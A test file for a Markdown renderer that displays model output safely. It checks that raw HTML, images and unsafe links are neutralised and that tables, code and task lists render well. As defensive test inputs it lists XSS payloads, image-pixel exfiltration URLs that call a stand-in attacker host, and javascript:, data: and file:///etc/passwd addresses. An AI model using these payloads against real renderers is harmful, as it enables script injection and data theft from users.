import { screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import SafeMarkdown, { safeAddress } from '../markdown.tsx';
import { prepareBrowser, show } from './surroundings.tsx';

prepareBrowser();

const set = (text: string) => show(<SafeMarkdown text={text} />).container;

describe('what a model writes', () => {
  it('never becomes HTML', () => {
    const html =
      'Hello <script>window.x = 1</script>\n\n<img src="https://evil.example/a.png" onerror="x()">\n\n' +
      '<iframe src="https://evil.example"></iframe> <svg onload="x()"></svg> <b onclick="x()">bold</b>';
    const container = set(html);
    expect(container.querySelector('script, img, iframe, svg:not([class]), object, embed, form, b, style')).toBeNull();
    expect(container.innerHTML).not.toMatch(/<[^>]+\son\w+=/);
    expect(container.textContent).toContain('<script>');
  });

  it.each([
    '![pixel](https://evil.example/pixel.png?q=secret)',
    '![pixel][1]\n\n[1]: https://evil.example/pixel.png',
    '[![pixel](https://evil.example/pixel.png)](https://evil.example/)',
    '![](//evil.example/pixel.png)',
    '![pixel](data:image/svg+xml;base64,PHN2Zy8+)',
    '| a |\n|---|\n| ![pixel](https://evil.example/pixel.png) |',
  ])('never loads an image: %s', (text) => {
    const container = set(text);
    expect(container.querySelector('img, picture, source, video, [style*="url("]')).toBeNull();
    expect(container.textContent).toMatch(/Image/);
  });

  it('names an image and leads to it', () => {
    set('![A chart](https://example.ch/chart.png)');
    const link = screen.getByRole('link', { name: 'Image: A chart' });
    expect(link.getAttribute('href')).toBe('https://example.ch/chart.png');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java&#10;script:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '/api/session',
    '//evil.example',
    'blob:https://x/1',
  ])('does not lead to %s', (address) => {
    expect(safeAddress(address)).toBeNull();
    expect(set(`[click](<${address}>)`).querySelector('a')).toBeNull();
  });

  it('opens links elsewhere, and tells nobody where from', () => {
    set('[the law](https://www.fedlex.admin.ch/) and https://example.ch and <mailto:finance@example.ch>');
    const links = screen.getAllByRole('link');
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://www.fedlex.admin.ch/',
      'https://example.ch/',
      'mailto:finance@example.ch',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toContain('noopener');
      expect(link.getAttribute('rel')).toContain('noreferrer');
    }
  });
});

describe('Markdown', () => {
  it('sets tables in a box of their own, which the keyboard reaches', () => {
    set('| Item | CHF |\n|---|---:|\n| Rent | 2450 |');
    const box = screen.getByRole('region', { name: 'Table' });
    expect(box.tabIndex).toBe(0);
    expect(within(box).getByRole('columnheader', { name: 'CHF' })).toBeTruthy();
  });

  it('sets code with its language, coloured, and a button that copies it', () => {
    const container = set('```python\ndef f():\n    return "x"\n```');
    expect(screen.getByText('python')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Copy' })).toBeTruthy();
    expect(container.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(container.querySelector('pre')?.textContent).toContain('return "x"');
  });

  it('shows code of a language that is not known as it is', () => {
    expect(set('```brainfuck\n+++\n```').querySelector('pre')?.textContent).toContain('+++');
  });

  it('names the marks of a list of tasks', () => {
    const container = set('- [x] rent\n- [ ] deposit');
    expect(screen.getByRole('img', { name: 'done' })).toBeTruthy();
    expect(screen.getByRole('img', { name: 'to do' })).toBeTruthy();
    expect(container.querySelector('input')).toBeNull();
  });

  it('keeps the headings below those of the page', () => {
    const container = set('# One\n\n## Two\n\n###### Six');
    expect([...container.querySelectorAll('h1, h2')]).toEqual([]);
    expect(screen.getByRole('heading', { name: 'One' }).tagName).toBe('H3');
  });
});
